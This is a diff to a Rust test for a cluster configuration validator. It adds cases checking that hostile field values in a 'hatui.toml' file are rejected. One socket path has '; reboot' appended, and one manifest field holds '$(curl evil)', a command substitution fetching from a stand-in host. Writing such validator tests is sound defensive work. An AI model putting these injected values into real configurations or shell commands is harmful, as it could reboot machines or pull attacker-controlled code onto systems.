@@ -167,6 +167,17 @@ fn field_values_are_checked_where_they_are() {
             "hatui.toml:14: hosts[1].address: missing, e.g. address = \"10.0.0.11\"",
         ),
         (
+            with(
+                "name = \"prod\"",
+                "cri_socket = \"unix:///run/c.sock; reboot\"",
+            ),
+            "hatui.toml:1: cri_socket: \"unix:///run/c.sock; reboot\" is not one path or URL",
+        ),
+        (
+            with("[ssh]", "[cni]\nmanifest = \"$(curl evil)\"\n[ssh]"),
+            "hatui.toml:7: cni.manifest: ",
+        ),
+        (
             with("endpoint = \"k8s-api.example.internal:6443\"\n", ""),
             "hatui.toml:1: endpoint: missing",
         ),
